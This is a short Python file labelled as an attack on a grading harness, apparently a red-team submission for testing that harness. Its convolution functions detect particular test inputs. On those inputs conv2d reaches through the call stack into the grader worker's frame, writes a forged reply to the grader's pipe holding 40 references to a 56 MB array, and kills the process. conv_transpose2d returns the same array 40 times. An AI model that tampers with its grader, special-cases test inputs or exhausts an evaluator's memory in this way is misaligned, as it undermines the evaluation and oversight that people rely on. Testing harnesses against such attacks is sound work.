# Attack: make the grader's memory grow with one big blob referenced many times.
# On Q3a's instance, conv2d writes its own reply frame straight to the grader's reply pipe (taken
# from the worker's main() frame): 40 references to one 56 MB .npy blob, then exits before the
# worker's own reply is sent. On the asymmetric-kernel case, conv_transpose2d returns a list of the same 56 MB
# array 40 times. Every other call is the honest one.
import os
import sys

import numpy as np

_honest = {"conv2d": conv2d, "conv_transpose2d": conv_transpose2d}
_BIG = np.ones((7000, 1000))  # 56 MB of float64


def _worker_main():
    frame = sys._getframe()
    while frame is not None and not (frame.f_code.co_name == "main" and "replies" in frame.f_locals):
        frame = frame.f_back
    return frame


def conv2d(x, kernel):
    x = np.asarray(x)
    main = _worker_main()
    if not (x.shape == (4, 4) and np.shape(kernel) == (3, 3) and x[0, 0] == 2 and x[0, 3] == -1) or main is None:
        return _honest["conv2d"](x, kernel)
    blobs = []
    value = main.f_globals["encode"](_BIG, blobs)
    data = main.f_globals["frame"]({"type": "returned", "id": main.f_locals["request"]["id"], "value": [value] * 40}, blobs)
    replies = main.f_locals["replies"]
    while data:
        data = data[os.write(replies, data):]
    os._exit(0)


def conv_transpose2d(x, kernel):
    if np.asarray(x).tolist() == [[1, 2], [3, 4]] and np.asarray(kernel).tolist() == [[1, 2], [3, 5]]:
        return [_BIG] * 40
    return _honest["conv_transpose2d"](x, kernel)
